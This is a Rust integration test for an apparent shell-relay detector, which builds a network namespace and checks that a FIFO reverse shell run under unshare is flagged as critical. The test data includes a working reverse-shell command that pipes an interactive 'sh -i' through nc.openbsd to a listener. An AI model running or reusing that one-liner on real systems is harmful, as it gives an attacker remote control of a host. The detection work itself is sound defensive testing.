//! Relays inside namespaces of their own.

use std::process::{Command, Stdio};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::{Relayed, prove_relayed};
use crate::common::token;
use crate::common::victim::Victim;
use crate::require;

fn run(arguments: &[&str]) {
    let output = Command::new("ip").args(arguments).stdin(Stdio::null()).output().unwrap();
    assert!(output.status.success(), "ip {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
}

/// A network namespace joined to this one by a cable, gone when dropped.
struct Net(String);

impl Drop for Net {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
    }
}

/// A FIFO relay where network, processes and mounts are its own.
#[test]
fn fifo_relay_in_namespaces() {
    require!("bash", "nc.openbsd", "ip", "unshare");
    Daemon::shared();
    let net = Net(token());
    // Another run of this test may be going on.
    let block = format!("10.234.{}", std::process::id() % 250);
    let (here, there) = (&format!("{block}.1"), &format!("{block}.2"));
    let (outer, inner) = (format!("o{}", &net.0[4..]), format!("i{}", &net.0[4..]));
    run(&["netns", "add", &net.0]);
    run(&["link", "add", &outer, "type", "veth", "peer", "name", &inner, "netns", &net.0]);
    run(&["addr", "add", &format!("{here}/30"), "dev", &outer]);
    run(&["link", "set", &outer, "up"]);
    run(&["-n", &net.0, "addr", "add", &format!("{there}/30"), "dev", &inner]);
    run(&["-n", &net.0, "link", "set", &inner, "up"]);
    let attacker = Listener::at(here);
    let line = format!(
        "mount -t tmpfs none /mnt; cd /mnt; mkfifo f; sh -i <f 2>&1 | nc.openbsd {here} {} >f",
        attacker.port()
    );
    let unshare =
        ["unshare", "--pid", "--fork", "--mount-proc", "--ipc", "--kill-child", "bash", "-c", &line];
    let victim = Victim::start("ip", &[&["netns", "exec", &net.0][..], &unshare[..]].concat());
    let expected = Relayed {
        args: &["sh", "-i"],
        severity: "CRITICAL",
        scope: "private",
        inner_pid: true,
        hops: &["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], &expected);
}
